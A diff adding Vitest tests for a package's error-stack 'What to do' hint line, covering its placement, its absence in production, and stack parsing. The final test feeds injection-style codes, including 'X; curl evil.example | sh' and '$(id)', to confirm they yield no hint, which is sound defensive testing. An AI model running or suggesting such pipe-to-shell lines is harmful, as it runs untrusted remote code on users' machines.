@@ -1,0 +1,57 @@
+import { inspect } from 'node:util';
+import { parseErrorStacktrace } from '@vitest/utils/source-map';
+import { expect, onTestFinished, test, vi } from 'vitest';
+import { buildError, LatchkeyError } from '../../../core/index.ts';
+import { whatToDo } from '../../../core/base/what-to-do.ts';
+
+const MESSAGE = 'The service answered:\n    at some length.';
+const LINE = 'What to do: npx latchkey explain UNEXPECTED_STATUS';
+
+const makers = {
+  LatchkeyError: () => new LatchkeyError('UNEXPECTED_STATUS', MESSAGE),
+  'a known error of the service': () => buildError('UNEXPECTED_STATUS', MESSAGE, {}),
+};
+
+test.each(Object.entries(makers))('%s has the line once, between its message and the calls', (_name, make) => {
+  const error = make();
+  const [head, calls] = (error.stack ?? '').split(`\n${LINE}\n`);
+  expect(head?.endsWith(`Error: ${MESSAGE}`)).toBe(true);
+  expect(calls).toMatch(/^ {4}at /);
+  expect(calls).not.toContain('What to do');
+  expect(error.message).toBe(MESSAGE);
+  expect(inspect(error)).toContain(LINE);
+});
+
+test.each(Object.entries(makers))('in production %s has no such line', (_name, make) => {
+  vi.stubEnv('NODE_ENV', 'production');
+  onTestFinished(() => void vi.unstubAllEnvs());
+  expect(make().stack).not.toContain('What to do');
+});
+
+test('what reads errors reads them as before', () => {
+  const error = new LatchkeyError('NETWORK', 'No answer.');
+  const plain = new Error('No answer.');
+  plain.stack = String(error.stack).replace(/\nWhat to do: .*/, '');
+  expect(parseErrorStacktrace(error)).toEqual(parseErrorStacktrace(plain));
+  expect(parseErrorStacktrace(error)).not.toEqual([]);
+  expect(Object.keys(error)).not.toContain('stack');
+  expect(structuredClone(error)).toMatchObject({ message: 'No answer.', stack: error.stack });
+});
+
+test('a stack of another shape stays as it is', () => {
+  const { prepareStackTrace } = Error;
+  onTestFinished(() => void Object.assign(Error, { prepareStackTrace }));
+  Error.prepareStackTrace = (_error, calls) => calls;
+  expect(Array.isArray(new LatchkeyError('NETWORK', '').stack)).toBe(true);
+  // As in Firefox and Safari, which have neither the message nor `at` in it.
+  Error.prepareStackTrace = () => 'call@https://app.example/main.js:1:2';
+  expect(new LatchkeyError('NETWORK', '').stack).toBe('call@https://app.example/main.js:1:2');
+});
+
+test.each(['X; curl evil.example | sh', 'X\nY', '$(id)', '--help', ''])(
+  '%j is no code to paste into a terminal',
+  (code) => {
+    expect(whatToDo(code)).toBe('');
+    expect(buildError(code, 'Failed', {}).stack).not.toContain('What to do');
+  },
+);
